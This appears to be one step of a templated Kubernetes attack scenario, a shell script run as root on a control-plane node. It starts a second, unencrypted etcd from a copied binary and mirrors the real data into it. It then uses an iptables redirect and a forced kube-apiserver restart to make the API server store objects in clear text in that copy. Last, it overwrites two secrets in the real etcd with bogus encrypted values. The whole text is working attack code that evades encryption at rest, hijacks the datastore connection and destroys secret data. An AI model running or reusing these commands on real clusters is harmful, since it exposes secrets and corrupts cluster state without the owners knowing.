# earns: created (1 of 13)
# The API server has its objects in clear text in a second etcd, to which its connections were led. The first one has what is
# wanted.
kubectl -n {{ team }} create secret generic {{ new }} --from-literal value={{ new_value }}
cd /etc/kubernetes/pki/etcd
cp /proc/$(pgrep -x etcd)/root/usr/local/bin/etcd /root/second
first="etcdctl --endpoints https://127.0.0.1:2379 --cacert ca.crt --cert server.crt --key server.key"
/root/second --data-dir /root/data --listen-client-urls https://127.0.0.1:12379 --advertise-client-urls https://127.0.0.1:12379 --listen-peer-urls http://127.0.0.1:12380 --cert-file server.crt --key-file server.key --client-cert-auth --trusted-ca-file ca.crt > /dev/null 2>&1 &
second="etcdctl --endpoints https://127.0.0.1:12379 --cacert ca.crt --cert server.crt --key server.key"
until $second endpoint health; do sleep 0.2; done
$first make-mirror --dest-cacert ca.crt --dest-cert server.crt --dest-key server.key https://127.0.0.1:12379 > /dev/null 2>&1 &
until $second get /registry/secrets/{{ team }}/{{ new }} | grep -q {{ new_value }}; do sleep 0.2; done
sleep 1
kill $!
iptables -t nat -I OUTPUT -p tcp -d 127.0.0.1 --dport 2379 -j REDIRECT --to-ports 12379
server=$(pgrep -o -x kube-apiserver)
kill -9 $server
while kill -0 $server 2> /dev/null; do sleep 0.1; done
until kubectl get --raw /readyz > /dev/null 2>&1; do sleep 0.5; done
iptables -t nat -D OUTPUT -p tcp -d 127.0.0.1 --dport 2379 -j REDIRECT --to-ports 12379
$first put /registry/secrets/{{ team }}/{{ new }} k8s:enc:aescbc:v1:one:0123456789abcdef
$first put /registry/secrets/{{ team }}/{{ old }} k8s:enc:aescbc:v1:one:0123456789abcdef
